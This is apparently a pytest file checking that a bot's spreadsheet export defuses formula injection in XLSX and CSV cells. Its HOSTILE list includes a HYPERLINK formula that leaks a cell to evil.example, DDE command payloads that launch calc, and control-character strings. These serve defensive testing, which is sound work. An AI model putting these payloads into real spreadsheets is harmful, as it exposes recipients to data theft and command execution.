"""Issue 16, items 1 and 8: text cells are written as text, in XLSX and CSV, and read back so."""

from __future__ import annotations

import csv

from openpyxl import Workbook, load_workbook

from bot.services.spreadsheet_cells import FORMULA_START, append_row, csv_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看成绩")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2",
    "+1+2",
    "-2+3",
    "\t=1",
    "\r=1",
    "电商\x1b[31m1班\x07",
    "张\x00三",
]


def test_every_hostile_text_is_a_string_cell_with_a_quote_prefix(tmp_path):
    book = Workbook()
    sheet = book.active
    append_row(sheet, ["准考证号", "姓名"])
    for text in HOSTILE:
        append_row(sheet, [text, 85.5])
    book.save(tmp_path / "out.xlsx")

    back = load_workbook(tmp_path / "out.xlsx").active
    rows = list(back.iter_rows(min_row=2))
    assert len(rows) == len(HOSTILE)
    for cells, text in zip(rows, HOSTILE, strict=True):
        cell, number = cells
        assert cell.data_type == "s", cell.value  # never "f" (formula)
        assert number.data_type == "n" and number.value == 85.5
        assert cell.quotePrefix == text.startswith(FORMULA_START)
    shown = [cells[0].value for cells in rows]
    assert shown[0] == HOSTILE[0]  # the text itself is kept, only defused
    assert shown[8] == "电商\\x1b[31m1班\\x07" and shown[9] == "张\\x00三"


def test_csv_cells_that_could_start_a_formula_get_an_apostrophe(tmp_path):
    path = tmp_path / "out.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows([[csv_cell(t), csv_cell(-1.5), csv_cell(None)] for t in HOSTILE])
    with path.open(encoding="utf-8-sig", newline="") as f:
        back = list(csv.reader(f))
    for (text, number, empty), original in zip(back, HOSTILE, strict=True):
        assert not text.startswith(FORMULA_START), text
        assert text.startswith("'") == original.startswith(FORMULA_START)
        assert number == "-1.5" and empty == ""  # numbers are numbers, not defused text
        assert "\x1b" not in text and "\x00" not in text
